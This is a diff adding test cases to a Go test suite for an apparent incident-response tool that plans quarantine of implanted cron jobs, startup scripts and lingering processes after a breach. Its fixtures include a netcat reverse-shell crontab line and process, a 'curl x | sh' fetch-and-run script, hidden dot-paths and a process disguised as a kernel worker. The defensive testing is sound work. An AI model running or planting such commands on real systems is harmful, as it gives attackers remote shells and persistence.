@@ -135,6 +135,25 @@ func TestQuarantineCases(t *testing.T) {
 		{"a process that hides behind its arguments", func(w *world) {
 			w.process(812, "/dev/shm/.k (deleted)", "sh\x00/root/. ../update", "")
 		}, implant, "table,move", "its executable /dev/shm/.k (deleted) is not kept", ""},
+		{"all processes were seen, and none is the job's", func(w *world) {
+			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 1, Exe: "/usr/lib/systemd/systemd"}, {PID: 812, Exe: "/usr/bin/dash", Args: []string{"sh", ". ../update"}, Dir: "/home"}}, true
+		}, implant, "table,move", "", ""},
+		{"a script by its name in the folder of its process", func(w *world) {
+			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 812, Exe: "/usr/bin/dash", Args: []string{"sh", ". ../update"}, Dir: "/root"}}, true
+		}, implant, "table,move", "", "process 812 still runs what"},
+		{"a shell that was given the line", func(w *world) {
+			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 812, Exe: "/dev/shm/sh", Deleted: true, Args: []string{"sh", "-c", "cd /; sh '/root/. ../update'"}}}, true
+		}, implant, "table,move", "process 812, which the job", ""},
+		{"a program of the system, with the job's words", func(w *world) {
+			w.put("/var/spool/cron/crontabs/root", 'f', 0o600, 0, 105, "* * * * * nc -e /bin/sh 192.0.2.1 4444\n")
+			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 7, Exe: "/usr/bin/nc.openbsd", Args: []string{"nc", "-l", "22"}}, {PID: 812, Exe: "/usr/bin/nc.openbsd", Args: []string{"nc", "-e", "/bin/sh", "192.0.2.1", "4444"}}}, true
+		}, "/var/spool/cron/crontabs/root:1", "table", "", "process 812 still runs what"},
+		{"a program that is gone and cannot be tied", func(w *world) {
+			w.in.Processes, w.in.ProcessesWhole = []fix.Process{{PID: 900, Exe: "/tmp/x", Deleted: true, Args: []string{"[kworker/0:1]"}}}, true
+		}, implant, "table,move", "", "process 900 runs /tmp/x (deleted), a program that is gone"},
+		{"another job stands there by now", func(w *world) {
+			w.in.Breach.Quarantine[0].Command = "sh /elsewhere"
+		}, implant, "", "", "holds another job by now"},
 		{"no such job", func(w *world) {}, "/etc/cron.d/nosuch:1", "", "", "no such job was seen"},
 		{"another host's job", func(w *world) {}, "other:" + implant, "", "", ""},
 	} {
@@ -163,6 +182,24 @@ func TestQuarantineCases(t *testing.T) {
 				t.Errorf("it does not say %q\n%s", tt.says, tell(h))
 			}
 		})
+	}
+}
+
+func TestQuarantineFile(t *testing.T) {
+	var found []string
+	w := breached().put("/etc/profile.d/zz.sh", 'f', 0o644, 0, 0, "curl x | sh\n").put("/usr/bin/ls", 'f', 0o755, 0, 0, "x")
+	h := w.breach(fix.Breach{Files: []string{"/etc/profile.d/zz.sh", "/usr/bin/ls", "/etc/nosuch"}, ByHand: []string{"unit x.service: systemctl disable --now x.service"}}, &found).plan(t)
+	if d := cmp.Diff([]string{"move /etc/profile.d/zz.sh"}, paths(h)); d != "" {
+		t.Fatal(d + tell(h))
+	}
+	text := strings.Join(strings.Fields(tell(h)), " ")
+	for _, want := range []string{"install the package anew", "/etc/nosuch stays where it is", "systemctl disable --now x.service"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("the plan lacks %q\n%s", want, tell(h))
+		}
+	}
+	if d := cmp.Diff([]string{"/etc/profile.d/zz.sh", "/usr/bin/ls", "/etc/nosuch"}, found); d != "" {
+		t.Error(d)
 	}
 }
 
